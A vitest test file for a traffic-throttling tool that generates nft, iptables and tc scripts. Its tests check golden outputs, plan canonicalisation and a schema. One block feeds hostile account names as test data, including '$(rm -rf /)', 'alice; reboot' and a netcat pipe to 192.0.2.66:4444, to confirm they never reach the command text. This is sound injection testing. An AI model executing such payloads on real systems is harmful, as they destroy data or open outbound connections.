import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { InputError } from '../../src/errors.js';
import { buildPlan, type PlanInput, type ThrottlePlan } from '../../src/throttle/plan.js';

const GOLDEN = join(import.meta.dirname, 'golden');

/** Golden scripts: `UPDATE_GOLDEN=1 npx vitest run test/throttle` rewrites them; read the diff. */
function golden(name: string, text: string): void {
  const path = join(GOLDEN, name);
  if (process.env.UPDATE_GOLDEN) {
    mkdirSync(GOLDEN, { recursive: true });
    writeFileSync(path, text);
  }
  expect(existsSync(path), `${path} is missing: run UPDATE_GOLDEN=1 npx vitest run test/throttle and read the diff`).toBe(true);
  expect(text).toBe(readFileSync(path, 'utf8'));
}

const base: PlanInput = {
  target: { kind: 'address', address: '192.0.2.10' },
  iface: 'eth0', direction: 'out', backend: 'nft', ports: [], rate: 2_000_000, defaultRate: 10_000_000_000,
};

const account = (name: string, addresses: PlanInput['addresses'], more: Partial<PlanInput> = {}): ThrottlePlan =>
  buildPlan({ ...base, target: { kind: 'account', name }, addresses, window: { fromMs: Date.UTC(2026, 10, 20), toMs: Date.UTC(2026, 10, 21) }, ...more });

function dashParses(script: string): void {
  const r = spawnSync('dash', ['-n'], { input: script, encoding: 'utf8' });
  expect(r.status, r.stderr).toBe(0);
}

const CASES: Array<[string, () => ThrottlePlan]> = [
  ['nft-out-v4', () => buildPlan(base)],
  ['iptables-both-mixed', () => account('alice@example.com', [
    { ip: '192.0.2.10', firstSeen: 1, lastSeen: 2, otherAccounts: [] },
    { ip: '2001:db8::10', firstSeen: 1, lastSeen: 2, otherAccounts: [] },
    { ip: '198.51.100.0/24', firstSeen: 1, lastSeen: 2, otherAccounts: ['bob@example.com'] },
  ], { backend: 'iptables', direction: 'both', ports: [143, 993], ceil: 4_000_000 })],
  ['u32-in-v6', () => buildPlan({ ...base, target: { kind: 'address', address: '2001:db8:5::/64' }, backend: 'u32', direction: 'in', rate: 500_000 })],
  ['u32-out-ports', () => buildPlan({ ...base, backend: 'u32', ports: [993, 995] })],
  ['fw-out', () => account('carol', [{ ip: '203.0.113.5', firstSeen: 1, lastSeen: 2, otherAccounts: [] }], { backend: 'fw', ports: [993] })],
];

describe('golden scripts', () => {
  for (const [name, make] of CASES) {
    it(name, () => {
      const p = make();
      golden(`${name}.apply.sh`, p.commands.apply);
      golden(`${name}.undo.sh`, p.commands.undo);
      const { commands: _, ...data } = p;
      golden(`${name}.plan.json`, `${JSON.stringify(data, null, 2)}\n`);
      for (const s of Object.values(p.commands)) dashParses(s);
    });
  }
});

describe('buildPlan', () => {
  it('canonicalises, drops duplicates and addresses inside a listed network, and keeps the reasons', () => {
    const p = account('alice', [
      { ip: '198.51.100.7', firstSeen: 5, lastSeen: 9, otherAccounts: ['dave'] },
      { ip: '198.51.100.0/24', firstSeen: 7, lastSeen: 8, otherAccounts: [] },
      { ip: '192.0.2.10', firstSeen: 3, lastSeen: 4, otherAccounts: [] },
      { ip: '::ffff:192.0.2.10', firstSeen: 1, lastSeen: 2, otherAccounts: [] },
      { ip: '2001:DB8::0010', firstSeen: 1, lastSeen: 2, otherAccounts: [] },
      { ip: 'unknown', firstSeen: 1, lastSeen: 2, otherAccounts: [] },
    ]);
    expect(p.clients).toEqual([
      { address: '192.0.2.10', family: 4, sharedWith: [], firstSeen: 1, lastSeen: 4 },
      { address: '198.51.100.0/24', family: 4, sharedWith: ['dave'], firstSeen: 5, lastSeen: 9 },
      { address: '2001:db8::10', family: 6, sharedWith: [], firstSeen: 1, lastSeen: 2 },
    ]);
    expect(p.warnings).toEqual([
      'skipped unknown: not an IP address',
      '198.51.100.0/24 is shared with 1 other account(s) (NAT?): dave; throttling it slows them too',
    ]);
  });

  it('keeps its id, class and prefs when only the rate, direction, backend or ports change', () => {
    const a = buildPlan(base);
    const b = buildPlan({ ...base, rate: 1_000_000, direction: 'both', backend: 'u32', ports: [993] });
    expect(b.id).toBe(a.id);
    expect(b.tc).toMatchObject({ classid: a.tc.classid, prefs: a.tc.prefs });
    expect(buildPlan({ ...base, iface: 'eth1' }).id).not.toBe(a.id);
    expect(buildPlan({ ...base, target: { kind: 'address', address: '192.0.2.11' } }).id).not.toBe(a.id);
    expect(a.id).toMatch(/^[0-9a-f]{8}$/);
    expect(a.tc.classid).toMatch(/^b7:[0-9a-f]+$/);
    expect(a.tc.prefs[0]).toBeGreaterThan(16000);
    expect(a.tc.prefs[1]).toBeLessThan(49152);
  });

  it('refuses a ceil below the rate and a default class slower than the client', () => {
    expect(() => buildPlan({ ...base, ceil: 1_000_000 })).toThrow(/ceil 1000000bit is below rate 2000000bit/);
    expect(() => buildPlan({ ...base, defaultRate: 1_000_000 })).toThrow(/default rate 1000000bit is below the client's ceil/);
  });

  it('refuses an account with no usable address', () => {
    expect(() => account('alice', [{ ip: 'garbage', firstSeen: 1, lastSeen: 1, otherAccounts: [] }])).toThrow(InputError);
  });

  it('uses an IFB only for uploads', () => {
    expect(buildPlan(base).tc.ifb).toBeNull();
    expect(buildPlan({ ...base, direction: 'in' }).tc.ifb).toBe('btin-eth0');
    expect(buildPlan({ ...base, direction: 'both', iface: 'enp0s31f6long' }).tc.ifb).toMatch(/^btin-[0-9a-f]{10}$/);
    expect(buildPlan({ ...base, direction: 'in' }).classify).toEqual({ egress: null, ingress: 'u32' });
  });
});

describe('scripts', () => {
  it('nft: one transaction that creates, deletes and recreates the table', () => {
    const s = buildPlan(base).commands.apply;
    const t = buildPlan(base).names.nftTable;
    expect(s).toContain(`nft -f - <<'BYTETRAIL_NFT'\ntable inet ${t}\ndelete table inet ${t}\ntable inet ${t} {`);
    expect(s).toContain('oifname "eth0" ip daddr 192.0.2.10 meta priority set');
  });

  it('iptables: the jump is added only when -C does not find it', () => {
    const p = buildPlan({ ...base, backend: 'iptables' });
    expect(p.commands.apply).toContain(`iptables -w -t mangle -C POSTROUTING -o eth0 -m comment --comment bytetrail:${p.id} -j BYTETRAIL-${p.id} 2>/dev/null || iptables -w -t mangle -A POSTROUTING`);
    expect(p.commands.apply).not.toContain('ip6tables-restore');
    expect(p.commands.apply).toContain('drop_xt ip6tables');
  });

  it('u32: client side is dst going out and src coming in; ports are the server side', () => {
    const p = buildPlan({ ...base, backend: 'u32', direction: 'both', ports: [993] });
    expect(p.commands.apply).toContain(`tc filter add dev eth0 parent b7: protocol ip pref ${p.tc.prefs[0]} u32 match ip dst 192.0.2.10/32 match ip sport 993 0xffff classid ${p.tc.classid}`);
    expect(p.commands.apply).toContain(`tc filter add dev btin-eth0 parent b7: protocol ip pref ${p.tc.prefs[0]} u32 match ip src 192.0.2.10/32 match ip dport 993 0xffff classid ${p.tc.classid}`);
  });

  it('checks every prerequisite before the first change', () => {
    for (const backend of ['nft', 'iptables', 'u32', 'fw'] as const) {
      const s = buildPlan({ ...base, backend, direction: 'both' }).commands.apply;
      const firstChange = s.indexOf('## 2.');
      for (const check of ['id -u', 'has tc ||', 'ip link show dev eth0', 'root_owner eth0)" in ours|default', 'unshare -n sh -c']) {
        expect(s.indexOf(check), `${backend}: ${check}`).toBeGreaterThan(0);
        expect(s.indexOf(check), `${backend}: ${check}`).toBeLessThan(firstChange);
      }
    }
  });

  it('undo removes every backend\'s rules for the plan, whatever it was applied with', () => {
    const u = buildPlan({ ...base, backend: 'u32' }).commands.undo;
    for (const step of ['drop_nft', 'drop_xt iptables', 'drop_xt ip6tables']) expect(u).toContain(`\n${step}\n`);
    for (const step of ['drop_filters eth0', 'drop_class eth0', 'drop_root_if_unused eth0', 'drop_ingress']) expect(u).toContain(`\n  ${step}\n`);
  });
});

describe('hostile names never reach command text', () => {
  const HOSTILE = [
    '$(rm -rf /)',
    '`reboot`',
    'alice; reboot',
    'alice\nreboot',
    'alice\r\nreboot #',
    "it's \"quoted\"",
    '${IFS}$PATH\\',
    '| nc 192.0.2.66 4444 &',
    'пользователь@пример.рф',
    'a\u202eevil\u200b',
    'nul\u0000byte',
    '%0Areboot',
    '-rf',
    'x'.repeat(10_000),
  ];
  const benign = account('benign', [{ ip: '192.0.2.10', firstSeen: 1, lastSeen: 2, otherAccounts: [] }], { direction: 'both', ports: [993] });

  /** The script without comment lines, with everything derived from the plan id neutralised. */
  const commandText = (script: string, p: ThrottlePlan) => {
    const minor = p.tc.classid.split(':')[1];
    let t = script.split('\n').filter((l) => !/^\s*#/.test(l)).join('\n');
    for (const [from, to] of [[p.id, 'ID'], [`0x${p.names.fwMark.toString(16)}`, 'MARK'], [p.tc.classid, 'CLASSID'], [` ${minor}:`, ' LEAF:'], [String(p.tc.prefs[0]), 'PREF4'], [String(p.tc.prefs[1]), 'PREF6']]) t = t.split(from).join(to);
    return t;
  };

  for (const name of HOSTILE) {
    it(JSON.stringify(name.length > 40 ? `${name.slice(0, 20)}... (${name.length} chars)` : name), () => {
      for (const backend of ['nft', 'iptables', 'u32', 'fw'] as const) {
        const p = account(name, [{ ip: '192.0.2.10', firstSeen: 1, lastSeen: 2, otherAccounts: [name, 'bob'] }], { direction: 'both', ports: [993], backend });
        const ref = account('benign', [{ ip: '192.0.2.10', firstSeen: 1, lastSeen: 2, otherAccounts: ['benign2', 'bob'] }], { direction: 'both', ports: [993], backend });
        expect(p.target.name).toBe(name);
        for (const which of ['apply', 'undo', 'verify'] as const) {
          const s = p.commands[which];
          // Printable ASCII, tabs and newlines only: no control character, no bidi trick.
          expect(s).toMatch(/^[\x20-\x7e\t\n]*$/);
          // The name changes comments and the id, nothing else.
          expect(commandText(s, p)).toBe(commandText(ref.commands[which], ref));
          if (/[^A-Za-z0-9._@+=-]/.test(name)) expect(s.includes(name)).toBe(false);
          dashParses(s);
        }
      }
      expect(benign.commands.apply).toContain('# target:    account benign');
    });
  }
});

describe('schemas/throttle.json', () => {
  type Obj = { required?: string[]; properties?: Record<string, Obj>; items?: Obj };
  const schema = JSON.parse(readFileSync(join(import.meta.dirname, '..', '..', 'schemas', 'throttle.json'), 'utf8')) as Obj;

  /** Every object in the plan has exactly the keys the schema requires (so a change to the JSON shows up as a schema diff). */
  function sameKeys(value: unknown, s: Obj, path: string): void {
    if (Array.isArray(value)) {
      for (const v of value) if (s.items) sameKeys(v, s.items, `${path}[]`);
      return;
    }
    if (value === null || typeof value !== 'object' || !s.required) return;
    expect(Object.keys(value).sort(), path).toEqual([...s.required].sort());
    for (const [k, v] of Object.entries(value)) if (s.properties?.[k]) sameKeys(v, s.properties[k], `${path}.${k}`);
  }

  for (const [name, make] of CASES) {
    it(`describes the ${name} plan`, () => sameKeys(make(), schema, 'plan'));
  }
});
